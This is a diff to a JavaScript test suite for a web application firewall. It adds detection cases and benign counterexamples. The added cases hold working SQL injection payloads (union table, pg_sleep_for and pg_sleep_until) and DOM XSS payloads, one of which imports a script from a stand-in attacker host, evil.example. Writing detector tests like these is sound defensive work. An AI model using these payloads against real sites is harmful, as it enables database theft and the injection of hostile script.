@@ -1564,6 +1564,14 @@ describe("WAF", () => {
     ["/gw/open/search?id=1+and+%27a%23%27%3D%27b%27+union%2F**%2Fselect+user%2Cpassword+from+users", "sqli-union"],
     ["/gw/open/search?id=-1+and+%27a%2F*%27%3D%27%27+union%2F**%2Fselect+password%2C%27*%2F%27+from+users", "sqli-union"],
     ["/gw/open/search?id=1--1+union%2F**%2Fselect+user%2Cpassword+from+users", "sqli-union"],
+    // MySQL 8's table statement, PostgreSQL's other sleeps, calls that break out of a JavaScript string.
+    ["/gw/open/search?id=1+union+table+users", "sqli-union"],
+    ["/gw/open/search?id=1+union+all+table+users", "sqli-union"],
+    ["/gw/open/search?id=1+and+pg_sleep_for(%275+minutes%27)", "sqli-function"],
+    ["/gw/open/search?id=1+and+pg_sleep_until(now()%2B%271+hour%27)", "sqli-function"],
+    ["/gw/open/search?q=%27-prompt(1)-%27", "xss-dom"],
+    ["/gw/open/search?q=%27-confirm(document.domain)-%27", "xss-dom"],
+    ["/gw/open/search?q=%27%3Bimport(%27%2F%2Fevil.example%2Fx.js%27)%2F%2F", "xss-dom"],
   ];
   const bodyAttacks = [
     ["application/x-www-form-urlencoded", "name=x&comment=%3Cscript%3Esteal()%3C%2Fscript%3E", "xss-script"],
@@ -1631,6 +1639,8 @@ describe("WAF", () => {
     "/gw/open/search?q=I%27d+pick+%27A%27+and+price+%3E+5",
     // The third payload review: a script scheme's name where prose puts it, words after it.
     "/gw/open/search?title=HTML+%26+JavaScript%3A+Web+Design+for+Beginners",
+    "/gw/open/search?q=Meet+at+the+union+table+tennis+club",
+    "/gw/open/search?q=Write+the+prompt(s)+first%2C+then+confirm(yes%2Fno)",
   ];
   const benignBodies = [
     // The third payload review: a list's entry, a title, a mail's line starting with a script scheme's name.
